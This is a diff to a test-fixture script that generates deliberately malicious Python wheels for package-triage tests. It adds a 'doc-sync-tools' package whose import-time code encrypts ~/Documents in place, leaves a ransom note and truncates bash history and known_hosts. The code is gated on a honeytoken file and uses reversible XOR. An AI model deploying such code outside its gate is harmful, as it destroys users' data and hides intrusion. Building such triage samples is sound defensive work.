@@ -2,7 +2,7 @@
 """Writes one of the wheels the triage tests make on the fly. Only writes
 the archive: nothing of it runs here.
 
-  make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob OUT.whl
+  make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace OUT.whl
 
 plant   requests-timing-hooks: on import it plants a backdoored `requests`
         in the venv's site-packages, where it shadows the system's own:
@@ -33,6 +33,13 @@ walletok hd-keyderive (benign): Wallet.from_mnemonic and Keypair derive
 profiles aws-profile-lister (benign): its console script `aws-profiles`
         lists the profiles of ~/.aws/credentials and ~/.aws/config, and
         says which have a key id; nothing at import, no network.
+inplace doc-sync-tools: on import, encrypts each file of ~/Documents in
+        place (opened read-write, XORed, written back: no new file, no
+        rename, no truncation), leaves a note on the Desktop (again in
+        each phase), and hides its tracks: ~/.bash_history emptied by a
+        read-only open with O_TRUNC, ~/.ssh/known_hosts by truncate(2).
+        Defanged: acts only where the honeytoken HOME's crontab stand-in
+        is, and the XOR undoes itself.
 cronjob sched-sync-agent: on import, lists the user's crontab and, when
         its job is not there, installs the table with it added through
         `crontab -` (a job that would fetch a script from a TEST-NET
@@ -112,6 +119,34 @@ CRONJOB = (
     "                       timeout=5)\n"
     "except (OSError, subprocess.SubprocessError):\n"
     "    pass\n"
+)
+
+# In-place encryption: the file's own bytes overwritten through an O_RDWR
+# open, which neither truncates nor renames nor deletes anything.
+INPLACE = (
+    "import os\n"
+    "home = os.path.expanduser('~')\n"
+    "try:\n"
+    "    with open(home + '/.local/bin/crontab') as f:\n"
+    "        honey = 'this host has no cron' in f.read()\n"
+    "except OSError:\n"
+    "    honey = False\n"
+    "docs = os.path.join(home, 'Documents')\n"
+    "for name in sorted(os.listdir(docs)) if honey else []:\n"
+    "    p = os.path.join(docs, name)\n"
+    "    if not os.path.isfile(p) or os.path.getsize(p) > 1 << 20:\n"
+    "        continue\n"
+    "    with open(p, 'r+b') as f:\n"
+    "        data = f.read()\n"
+    "        f.seek(0)\n"
+    "        f.write(bytes(b ^ 0x5a for b in data))\n"
+    "if honey:\n"
+    "    os.makedirs(home + '/Desktop', exist_ok=True)\n"
+    "    with open(home + '/Desktop/HOW_TO_RESTORE.txt', 'w') as f:\n"
+    "        f.write('Your documents are encrypted.\\n')\n"
+    "    os.close(os.open(home + '/.bash_history', os.O_RDONLY | os.O_TRUNC))\n"
+    "    if os.path.exists(home + '/.ssh/known_hosts'):\n"
+    "        os.truncate(home + '/.ssh/known_hosts', 0)\n"
 )
 
 KEYS = (
@@ -362,6 +397,8 @@ KINDS = {
                   "from ._native import fast  # the wheel lacks it\n"}),
     "cronjob": ("sched_sync_agent", "0.2.0",
                 {"sched_sync_agent/__init__.py": CRONJOB}),
+    "inplace": ("doc_sync_tools", "1.0.2",
+                {"doc_sync_tools/__init__.py": INPLACE}),
     "profiles": ("aws_profile_lister", "1.0.0",
                  {"aws_profile_lister/__init__.py": PROFILES},
                  "[console_scripts]\n"
